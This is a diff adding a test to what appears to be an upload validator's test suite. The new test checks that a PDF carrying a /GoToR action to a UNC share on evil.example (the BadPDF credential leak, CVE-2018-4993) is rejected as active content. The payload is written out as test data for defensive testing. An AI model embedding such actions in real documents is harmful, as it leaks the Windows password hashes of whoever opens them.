@@ -247,3 +247,11 @@ def test_a_compressed_object_stream_after_a_lone_carriage_return_is_searched():
         % (len(packed), packed)
     )
     assert code_of(validate_cv, "cv.pdf", data) == "pdf_active_content"
+
+
+def test_a_pdf_opening_a_file_on_another_machine_is_refused():
+    """/GoToR to \\\\host\\share sends the reader's Windows password hash to that host
+    ("BadPDF", CVE-2018-4993), as the remote template of a DOCX would."""
+    data = pdf_with(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")
+    assert code_of(validate_cv, "cv.pdf", data) == "pdf_active_content"
+    assert code_of(validate_document_file, "form.pdf", data) == "pdf_active_content"
